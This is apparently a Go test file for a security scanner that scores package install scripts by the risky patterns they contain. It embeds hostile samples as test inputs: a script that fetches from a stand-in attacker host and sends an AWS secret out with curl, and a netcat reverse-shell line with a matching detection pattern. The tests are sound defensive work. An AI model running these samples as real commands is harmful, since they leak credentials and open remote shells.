package scanner

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const exfilScript = `fetch('http://evil.example').then(r=>r.json()).then(d=>require('child_process').exec('curl '+process.env.AWS_SECRET))`

func matchedNames(analysis ScriptAnalysis) []string {
	names := make([]string, len(analysis.Matches))
	for i, m := range analysis.Matches {
		names[i] = m.PatternName
	}
	return names
}

func TestAnalyzeScript_CredentialExfiltration(t *testing.T) {
	analyzer := NewAnalyzer()
	analysis := analyzer.AnalyzeScript("postinstall", exfilScript)

	names := matchedNames(analysis)
	for _, expected := range []string{"fetch_call", "http_url", "child_process", "exec_call", "process_env"} {
		assert.Contains(t, names, expected)
	}

	assert.Equal(t, RiskCritical, analysis.Risk)
	assert.Equal(t, 100, analysis.Score)
	assert.Contains(t, analysis.Notes, "Combines network access with environment variable reading")
}

func TestAnalyzeScript_BenignScript(t *testing.T) {
	analyzer := NewAnalyzer()
	analysis := analyzer.AnalyzeScript("install", "echo hello")

	assert.Empty(t, analysis.Matches)
	assert.Equal(t, RiskLow, analysis.Risk)
	assert.Equal(t, 25, analysis.Score)
	assert.Empty(t, analysis.Notes)
}

func TestAnalyzeScript_CountThresholds(t *testing.T) {
	analyzer := NewAnalyzer()

	tests := []struct {
		name   string
		script string
		want   RiskLevel
	}{
		{
			name:   "zero matches is LOW",
			script: "node scripts/build.js",
			want:   RiskLow,
		},
		{
			name:   "one match is MEDIUM",
			script: "chmod +x bin/tool",
			want:   RiskMedium,
		},
		{
			name: "three matches is HIGH",
			// network plus filesystem only, so no combination override fires
			script: "curl -o f x; wget -q y; rm -rf /tmp/z",
			want:   RiskHigh,
		},
		{
			name:   "five matches is CRITICAL",
			script: "curl -o f x; wget -q y; rm -rf /tmp/z; chmod +x f; dns.lookup(h)",
			want:   RiskCritical,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			analysis := analyzer.AnalyzeScript("install", tt.script)
			assert.Equal(t, tt.want, analysis.Risk, "matches: %v", matchedNames(analysis))
		})
	}
}

func TestAnalyzeScript_NetworkCredentialOverride(t *testing.T) {
	analyzer := NewAnalyzer()

	// Exactly two matches: MEDIUM by count, CRITICAL via the combination rule.
	analysis := analyzer.AnalyzeScript("postinstall", "fetch(u).then(()=>process.env)")

	require.Len(t, analysis.Matches, 2)
	assert.Equal(t, RiskCritical, analysis.Risk)
	assert.Contains(t, analysis.Notes, "Combines network access with environment variable reading")
}

func TestAnalyzeScript_ExecObfuscationOverride(t *testing.T) {
	analyzer := NewAnalyzer()

	analysis := analyzer.AnalyzeScript("preinstall", "execSync(eval(payload))")

	assert.Equal(t, RiskCritical, analysis.Risk)
	assert.Contains(t, analysis.Notes, "Combines process execution with code obfuscation")
	assert.Contains(t, analysis.Notes, "Uses code obfuscation techniques")
}

func TestAnalyzeScript_ObfuscationNoteWithoutOverride(t *testing.T) {
	analyzer := NewAnalyzer()

	analysis := analyzer.AnalyzeScript("install", "eval(code)")

	assert.Equal(t, RiskMedium, analysis.Risk)
	assert.Equal(t, []string{"Uses code obfuscation techniques"}, analysis.Notes)
}

func TestAnalyzeScript_FirstOccurrenceOnly(t *testing.T) {
	analyzer := NewAnalyzer()

	analysis := analyzer.AnalyzeScript("install", "eval(a); eval(b); eval(c)")

	require.Len(t, analysis.Matches, 1)
	assert.Equal(t, "eval_call", analysis.Matches[0].PatternName)
}

func TestAnalyzeScript_MatchOrderFollowsCatalog(t *testing.T) {
	analyzer := NewAnalyzer()
	analysis := analyzer.AnalyzeScript("postinstall", exfilScript)

	catalogOrder := map[string]int{}
	for i, p := range analyzer.Patterns() {
		catalogOrder[p.Name] = i
	}

	last := -1
	for _, m := range analysis.Matches {
		idx := catalogOrder[m.PatternName]
		assert.Greater(t, idx, last, "matches must follow catalog order")
		last = idx
	}
}

func TestAnalyzeScript_ContextWindow(t *testing.T) {
	analyzer := NewAnalyzer()

	padding := strings.Repeat("a", 200)
	script := padding + " eval(x) " + padding
	analysis := analyzer.AnalyzeScript("install", script)

	require.Len(t, analysis.Matches, 1)
	match := analysis.Matches[0]
	assert.Contains(t, match.Context, match.Text)
	assert.LessOrEqual(t, len(match.Context), len(match.Text)+2*contextRadius)
}

func TestAnalyzeScript_ContextWindowAtBoundaries(t *testing.T) {
	analyzer := NewAnalyzer()

	analysis := analyzer.AnalyzeScript("install", "eval(x)")

	require.Len(t, analysis.Matches, 1)
	assert.Equal(t, "eval(x)", analysis.Matches[0].Context)
}

func TestAnalyzeScript_Deterministic(t *testing.T) {
	analyzer := NewAnalyzer()

	first := analyzer.AnalyzeScript("postinstall", exfilScript)
	second := analyzer.AnalyzeScript("postinstall", exfilScript)

	assert.Equal(t, first, second)
}

func TestNewAnalyzer_CustomPatternsAppended(t *testing.T) {
	custom := ParseCustomPatterns(`nc\s+-e`)
	analyzer := NewAnalyzer(custom...)

	analysis := analyzer.AnalyzeScript("install", "nc -e /bin/sh attacker 4444")

	require.Len(t, analysis.Matches, 1)
	assert.Equal(t, RiskMedium, analysis.Risk)
}
